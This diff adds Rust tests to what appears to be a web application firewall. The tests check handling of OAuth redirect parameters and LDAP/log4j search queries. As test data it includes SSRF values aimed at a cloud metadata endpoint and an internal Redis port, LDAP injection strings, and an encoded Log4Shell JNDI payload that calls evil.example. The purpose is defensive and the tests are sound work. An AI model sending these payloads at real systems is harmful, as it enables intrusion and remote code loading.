@@ -215,3 +215,39 @@ fn searches_are_free_text_and_breakouts_in_them_are_not() {
         assert!(!get("page=2", Some(&referer), Level::Balanced).is_empty(), "{referer}");
     }
 }
+
+#[test]
+fn redirect_targets_by_name() {
+    for n in ["redirect_uri", "redirectUri", "post_logout_redirect_uri", "return_to", "returnUrl", "success_url"] {
+        assert!(redirect_name(n), "{n}");
+    }
+    for n in ["url", "webhook_url", "callback", "image_url", "feed", "redirect_uri_and_some_more_words_that_do_not_fit"] {
+        assert!(!redirect_name(n), "{n}");
+    }
+    // A loopback redirect of a native app is not a request forgery; the same address as a
+    // webhook the server calls is, and so is a metadata address or an internal service where
+    // a browser is sent.
+    let findings = |body: &str, level| {
+        let mut req = palisade_core::rawhttp::OwnedRequest::new(http::Method::POST, "/oauth/clients");
+        req.headers.insert(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"));
+        req.body = body.as_bytes().to_vec();
+        let engine = Engine::new(crate::EngineConfig { level, ..crate::EngineConfig::default() }).unwrap();
+        engine.inspect(&req.view())
+    };
+    assert!(findings(r#"{"redirect_uri":"http://localhost/callback"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"webhook_url":"http://localhost/callback"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"redirect_uri":"http://169.254.169.254/latest/meta-data/"}"#, Level::Balanced).is_empty());
+    assert!(!findings(r#"{"redirect_uri":"http://localhost:6379/"}"#, Level::Balanced).is_empty());
+    assert!(findings(r#"{"redirect_uri":"http://127.0.0.1/cb"}"#, Level::Strict).is_empty());
+    assert!(!findings(r#"{"returnTo":"http://localhost.localdomain/"}"#, Level::Strict).is_empty());
+}
+
+#[test]
+fn ldap_and_log4j_words_in_a_search() {
+    for q in ["ldap+filter+(%26(uid%3D*))+syntax", "%24%7Bjndi%3Aldap%7D+log4j+explained"] {
+        assert!(get(&format!("q={q}"), None, Level::Strict).is_empty(), "{q}: {:?}", get(&format!("q={q}"), None, Level::Strict));
+    }
+    for q in ["*)(uid%3D*))(%7C(uid%3D*", "*()%7C%26%27", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"] {
+        assert!(!get(&format!("q={q}"), None, Level::Balanced).is_empty(), "{q}");
+    }
+}
